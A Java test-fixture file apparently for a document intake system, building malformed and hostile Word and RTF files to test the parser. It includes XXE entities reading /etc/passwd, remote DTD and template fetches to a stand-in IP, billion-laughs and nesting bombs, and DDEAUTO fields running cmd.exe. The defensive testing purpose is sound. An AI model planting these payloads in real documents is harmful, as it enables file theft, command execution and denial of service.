package org.gouji.intake.hostile;

import static org.gouji.document.Archives.text;
import static org.gouji.intake.hostile.HostileFile.hostile;
import static org.gouji.intake.hostile.HostileFile.showing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Word and RTF files with hidden, deleted and computed figures, without measure, or that reach out. */
final class WordFiles {

    private static final String MAIN = "word/document.xml";
    private static final Path WHOLE = Path.of("src/test/resources/intake/formats/spans-2021");

    private WordFiles() {}

    static List<HostileFile> files() {
        List<HostileFile> files = new ArrayList<>();
        addFigures(files);
        addShapes(files);
        addParts(files);
        addRtf(files);
        addOld(files);
        return files;
    }

    private static void addFigures(List<HostileFile> files) {
        figure(files, "12", "zero-width-space", "1\u200B2");
        figure(files, "132", "right-to-left-override", "1\u202E23");
        figure(files, "12", "vanished", run("", "1") + run("<w:vanish/>", "9") + run("", "2"));
        figure(files, "12", "vanished-in-the-web", run("", "1") + run("<w:webHidden/><w:vanish/>", "9") + run("", "2"));
        figure(files, "12", "vanished-for-ever", run("", "1") + run("<w:specVanish/><w:vanish/>", "9") + run("", "2"));
        figure(files, "12", "white", run("", "1") + run("<w:color w:val='FFFFFF'/>", "9") + run("", "2"));
        figure(files, "12", "half-a-point", run("", "1") + run("<w:sz w:val='1'/>", "9") + run("", "2"));
        figure(files, "struck", "struck", run("", "1") + run("<w:strike/>", "9") + run("", "2"));
        figure(files, "struck", "struck-twice", run("", "1") + run("<w:dstrike/>", "9") + run("", "2"));
        figure(
                files,
                "12",
                "deletion",
                run("", "1") + "<w:del><w:r><w:delText>9</w:delText></w:r></w:del>" + run("", "2"));
        figure(
                files,
                "12",
                "moved-away",
                run("", "1") + "<w:moveFrom>" + run("", "9") + "</w:moveFrom>" + run("", "2"));
        figure(files, "12", "field-code", run("", "1") + "<w:r><w:instrText>9</w:instrText></w:r>" + run("", "2"));
        figure(
                files,
                "12",
                "command-field",
                "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
                        + "DDEAUTO c:\\windows\\cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>"
                        + run("", "12") + "<w:r><w:fldChar w:fldCharType='end'/></w:r>");
        figure(files, "12", "right-to-left-run", run("<w:rtl/>", "12"));
        figure(files, "12", "override-element", "<w:bdo w:val='rtl'>" + run("", "21") + "</w:bdo>");
        figure(files, "12²", "superscript", run("", "12") + run("<w:vertAlign w:val='superscript'/>", "2"));
        figure(files, "12", "symbol", "<w:r><w:sym w:font='Wingdings' w:char='F081'/></w:r>" + run("", "12"));
        figure(files, "12", "no-break-hyphens", "<w:r><w:t>1</w:t><w:softHyphen/><w:t>2</w:t></w:r>");
    }

    private static String run(String properties, String text) {
        return "<w:r><w:rPr>" + properties + "</w:rPr><w:t>" + text + "</w:t></w:r>";
    }

    private static void figure(List<HostileFile> files, String seen, String name, String first) {
        files.add(showing(seen, "word-" + name + ".docx", () -> Draft.docx(first)));
    }

    private static void addShapes(List<HostileFile> files) {
        String cell = "<w:tc><w:p/></w:tc>";
        shape(
                files,
                "huge-spans",
                "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='2147483647'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>");
        shape(
                files,
                "many-huge-spans",
                "<w:tbl>"
                        + ("<w:tr><w:tc><w:tcPr><w:gridSpan w:val='1000000'/><w:vMerge/></w:tcPr><w:p/>"
                                        + "</w:tc></w:tr>")
                                .repeat(2_000)
                        + "</w:tbl>");
        shape(files, "deep-tables", "<w:tbl><w:tr><w:tc>".repeat(20_000));
        shape(files, "deep-controls", "<w:sdt><w:sdtContent>".repeat(50_000));
        shape(files, "many-paragraphs", "<w:p/>".repeat(200_000));
        shape(files, "many-runs", "<w:p>" + run("", "1").repeat(50_000) + "</w:p>");
        shape(files, "many-cells", "<w:tbl><w:tr>" + cell.repeat(30_000) + "</w:tr></w:tbl>");
        shape(files, "many-attributes", "<w:p " + SheetFiles.attributes(8_000) + "/>");
        shape(files, "long-text", "<w:p><w:r><w:t>" + "1".repeat(1_000_000) + "</w:t></w:r></w:p>");
        shape(files, "open-fields", "<w:r><w:fldChar w:fldCharType='begin'/></w:r>".repeat(50_000));
        shape(
                files,
                "grid-of-everything",
                "<w:tbl><w:tblGrid>" + "<w:gridCol w:w='-1'/>".repeat(50_000) + "</w:tblGrid></w:tbl>");
    }

    private static void shape(List<HostileFile> files, String name, String end) {
        files.add(hostile("word-" + name + ".docx", () -> Draft.docx(Map.of(), Draft.FIGURE, end)));
    }

    private static void addParts(List<HostileFile> files) {
        part(files, "external-entity", MAIN, document("<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;"));
        part(
                files,
                "parameter-entity",
                MAIN,
                document("<!DOCTYPE w [<!ENTITY % x SYSTEM 'http://198.51.100.1/x'> %x;]>", "1"));
        part(files, "external-subset", MAIN, document("<!DOCTYPE w SYSTEM 'http://198.51.100.1/x.dtd'>", "1"));
        part(files, "billion-laughs", MAIN, document("<!DOCTYPE w [" + SheetFiles.laughs() + "]>", "&l9;"));
        part(files, "entity-flood", MAIN, document("", "&amp;&#49;".repeat(200_000)));
        part(
                files,
                "includes",
                MAIN,
                document("", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"));
        part(files, "no-xml", MAIN, "规章 12");
        part(files, "empty-part", MAIN, "");
        part(files, "bomb", MAIN, document("", " ".repeat(4_000_000)));
        part(files, "numbering-loop", "word/numbering.xml", """
                <w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="1">
                <w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>
                """);
        part(files, "style-loop", "word/styles.xml", """
                <w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:styleId="a"><w:basedOn
                w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>
                """);
        part(
                files,
                "remote-template",
                "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Id='a' Type='attachedTemplate' TargetMode='External' Target='http://198.51.100.1/a'/></Relationships>");
        part(files, "macros", "word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\"");
        part(files, "embedded-object", "word/embeddings/oleObject1.bin", "\u00D0\u00CF\u0011\u00E0");
        part(files, "embedded-page", "word/afchunk.html", "<html><body>规章 99</body></html>");
        files.add(hostile(
                "word-other-encoding.docx",
                () -> Draft.docx(
                        Map.of(
                                MAIN,
                                document("", "12")
                                        .replace("1.0\"", "1.0\" encoding=\"UTF-7\"")
                                        .getBytes(StandardCharsets.UTF_8)),
                        "",
                        "")));
        files.add(hostile(
                "word-wide-characters.docx",
                () -> Draft.docx(Map.of(MAIN, document("", "12").getBytes(StandardCharsets.UTF_16)), "", "")));
        files.add(hostile("word-encrypted.docx", () -> encrypted(Draft.docx("12"))));
    }

    private static String document(String declaration, String text) {
        return Draft.document("<w:p>" + Draft.run(Draft.TITLE) + "</w:p><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>")
                .replace("?>", "?>" + declaration);
    }

    private static void part(List<HostileFile> files, String name, String part, String content) {
        files.add(hostile("word-" + name + ".docx", () -> Draft.docx(Map.of(part, text(content)), Draft.FIGURE, "")));
    }

    private static byte[] encrypted(byte[] whole) throws IOException {
        try (POIFSFileSystem files = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("geheim");
            try (var out = encryptor.getDataStream(files)) {
                out.write(whole);
            } catch (java.security.GeneralSecurityException e) {
                throw new IOException(e);
            }
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            files.writeFilesystem(bytes);
            return bytes.toByteArray();
        }
    }

    private static void addRtf(List<HostileFile> files) {
        rtf(files, "132", "right-to-left-override", "1\\u8238?23");
        rtf(files, "12", "zero-width-space", "1\\u8203?2");
        rtf(files, "12", "hidden", "{1{\\v 9}2}");
        rtf(files, "12", "deleted", "{1{\\deleted 9}2}");
        files.add(showing(
                "12",
                "rtf-white.rtf",
                () -> Draft.rtf(
                        "{\\colortbl;\\red0\\green0\\blue0;\\red255\\green255\\blue255;}", "{1{\\cf2 9}2}", "")));
        rtf(files, "12", "no-size", "{1{\\fs0 9}2}");
        rtf(files, "struck", "struck", "{1{\\strike 9}2}");
        rtf(files, "struck", "struck-and-coloured", "{1{\\strike\\cf1 9}2}");
        rtf(files, "12", "no-size-and-struck-no-more", "{1{\\fs0\\strike0 9}2}");
        rtf(files, "12", "destination", "{1{\\*\\nosuch 9}2}");
        rtf(files, "12", "field", "{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt 12}}");
        rtf(files, "12", "code-page", "{\\'31\\'32}");
        end(files, "deep-groups", "{".repeat(30_000));
        end(files, "deep-groups-with-words", "{\\b ".repeat(30_000));
        end(files, "stray-ends", "}".repeat(30_000));
        end(files, "binary-without-end", "\\bin2147483647 x");
        end(files, "negative-binary", "\\bin-1 x");
        end(files, "numbers-too-large", "\\fs99999999999999999999 \\u-99999999?\\cellx999999999999 ");
        end(files, "skip-everything", "\\uc2147483647 \\u49?");
        end(files, "long-word", "\\" + "a".repeat(1_000_000) + " ");
        end(
                files,
                "many-cells",
                "\\trowd " + "\\cellx1".repeat(30_000) + "\\intbl " + "\\cell".repeat(30_000) + "\\row ");
        end(files, "deep-tables", "\\itap2000000000\\nestcell\\nestrow ".repeat(1_000));
        end(files, "many-paragraphs", "\\par ".repeat(60_000));
        end(files, "embedded-object", "{\\object\\objemb{\\*\\objdata " + "d0cf11e0".repeat(50_000) + "}}");
        end(files, "picture-of-nothing", "{\\pict\\pngblip\\picw2147483647\\pich2147483647 " + "z".repeat(1_000) + "}");
        end(files, "hexadecimal-without-end", "\\'".repeat(30_000));
        files.add(hostile(
                "rtf-font-flood.rtf",
                () -> Draft.rtf("{\\fonttbl" + "{\\f1\\fcharset134 a;}".repeat(30_000) + "}", "12", "")));
        files.add(hostile("rtf-header-alone.rtf", () -> text("{\\rtf")));
    }

    private static void rtf(List<HostileFile> files, String seen, String name, String first) {
        files.add(showing(seen, "rtf-" + name + ".rtf", () -> Draft.rtf(first)));
    }

    private static void end(List<HostileFile> files, String name, String end) {
        files.add(hostile("rtf-" + name + ".rtf", () -> Draft.rtf("", Draft.FIGURE, end)));
    }

    private static void addOld(List<HostileFile> files) {
        for (int seed = 0; seed < 12; seed++) {
            int each = seed;
            files.add(hostile("old-damaged-" + seed + ".doc", () -> Disguises.damaged(doc(), each, 60)));
        }
    }

    static byte[] doc() throws IOException {
        return Files.readAllBytes(WHOLE.resolve("input.doc"));
    }
}
